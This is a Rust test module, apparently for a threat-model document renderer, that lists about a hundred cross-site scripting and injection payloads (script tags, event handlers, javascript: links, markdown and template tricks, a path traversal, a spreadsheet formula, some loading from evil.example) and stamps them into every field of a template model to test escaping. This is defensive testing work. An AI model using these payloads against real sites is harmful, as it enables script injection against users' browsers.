//! What strangers may write, and a model that is full of it.

/// Ways in which others have put a script on a page.
pub(crate) const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#x73;cript:alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<a onmouseover=alert(1)>x</a>",
    "<p onclick='alert(1)'>x</p>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=alert(1) `",
    "x\" autofocus onfocus=alert(1) y=\"",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:alert(1))",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](x)",
    "[x](x \"onclick=alert(1)\")",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}",
    "{{ page | safe }}",
    "{% include \"base.html\" %}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "\u{202e}<script>alert(1)</script>",
    "\u{0}<script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</script>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x>",
    "<svg><a><rect width=99 height=99 /><animate attributeName=href to=javascript:alert(1)></a>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td><svg><desc><td><script>alert(1)</script></td></desc></svg></td></table>",
    "<p id=\"</p><img src=x onerror=alert(1)>\">",
    "<span class=\"skip\" id=\"main\">x</span>",
    "<a id=top name=main href=#top>x</a>",
    "<dialog open>x</dialog>",
    "<portal src=//evil.example>",
    "<applet code=x>",
    "<bgsound src=//evil.example>",
    "<layer src=//evil.example>",
    "<xss style=\"xss:expression(alert(1))\">",
    "<div contenteditable onblur=alert(1)>x</div>",
    "<select><option onclick=alert(1)></select>",
    "<keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<listing><script>alert(1)</script></listing>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "../../../etc/passwd",
    "//evil.example/x",
    "=HYPERLINK(\"http://evil.example\")",
];

/// A model whose every field holds the payload, and whose body does.
const MODEL: &str = r#"+++
id = @Q@
title = @Q@
level = "context"
team = @Q@
version = @Q@
classification = "OFFICIAL"
authors = [@Q@]
facilitator = @Q@
participants = [@Q@]
methodologies = [@Q@]
covers = [@Q@]
aliases = [@Q@, "old-@N@"]
tags = [@Q@]
links = [@Q@]
description = @Q@
review = { date = 2026-10-01, by = @Q@, role = @Q@, outcome = @Q@ }
sign-off = { date = 2026-10-01, by = @Q@ }
threat-assessment = { date = 2026-10-01, sources = [@Q@] }
milestones = [{ id = @Q@, date = 2026-10-01 }]
triggers = [{ date = 2026-11-01, kind = @Q@, ref = @Q@ }]
raci = { @Q@ = { responsible = @Q@, accountable = @Q@ } }
[[elements]]
id = "e"
title = @Q@
kind = "container"
boundary = @Q@
technology = @Q@
[[elements]]
id = @Q@
title = @Q@
[[boundaries]]
id = @Q@
title = @Q@
kind = @Q@
[[flows]]
id = @Q@
title = @Q@
from = "e"
to = @Q@
protocol = @Q@
authentication = @Q@
[[assets]]
id = @Q@
title = @Q@
owner = @Q@
classification = @Q@
description = @Q@
[[actors]]
id = @Q@
title = @Q@
kind = @Q@
capability = @Q@
intent = @Q@
access = @Q@
[[processes]]
id = @Q@
title = @Q@
[[decisions]]
id = @Q@
title = @Q@
decision = @Q@
reason = @Q@
by = @Q@
date = 2026-01-01
[[exceptions]]
id = @Q@
title = @Q@
rule = @Q@
reason = @Q@
risk = @Q@
not-implemented = @Q@
difficulties = @Q@
review-date = 2026-12-01
approved-by = @Q@
[[lessons]]
id = @Q@
title = @Q@
improves = "architecture"
action = @Q@
[[terms]]
id = @Q@
title = @Q@
means = @Q@
[[threats]]
id = @Q@
title = @Q@
description = @Q@
owner = @Q@
categories = [@Q@]
targets = [@Q@, "e"]
actors = [@Q@]
controls = [@Q@]
attack = [@Q@]
capec = [@Q@]
cwe = [@Q@]
atlas = [@Q@]
steps = [@Q@]
story = @Q@
tests = [@Q@]
links = [@Q@]
tags = [@Q@]
rationale = @Q@
treatment = "transfer"
[[threats]]
id = "T-@N@"
title = @Q@
targets = ["e"]
acceptance = { by = @Q@, date = 2026-01-01, reason = @Q@, expires = 2026-12-01 }
[[controls]]
id = @Q@
title = @Q@
status = "implemented"
description = @Q@
evidence = [@Q@]
tests = [@Q@]
nist = [@Q@]
links = [@Q@]
tags = [@Q@]
assessed = { date = 2026-01-01, method = @Q@, result = @Q@ }
+++

# @LINE@

@BODY@

## What are we building? @LINE@

- @LINE@

> @LINE@

| @LINE@ | x |
| - | - |
| @LINE@ | `@LINE@` |

```@LINE@
@BODY@
```

[@LINE@](x.md) [x](@LINE@) ![@LINE@](@LINE@)

### A-@N@: @LINE@ {#@LINE@}

@BODY@

## What can go wrong?

### X-@N@: @LINE@

```toml threat
targets = ["e"]
```

@BODY@
"#;

/// The same with this payload, which is that of a number.
pub(crate) fn model(payload: &str, number: usize) -> String {
    let body = payload.replace('\u{0}', "");
    let line = body.replace('\n', " ");
    let model = MODEL.replace("@N@", &number.to_string()).replace("@Q@", &quoted(payload));
    model.replace("@LINE@", &line).replace("@BODY@", &body)
}

/// TOML's basic string.
fn quoted(text: &str) -> String {
    let escaped: String = text
        .chars()
        .map(|c| match c {
            '"' | '\\' => format!("\\{c}"),
            c if c.is_control() => format!("\\u{:04X}", u32::from(c)),
            c => c.to_string(),
        })
        .collect();
    format!("\"{escaped}\"")
}
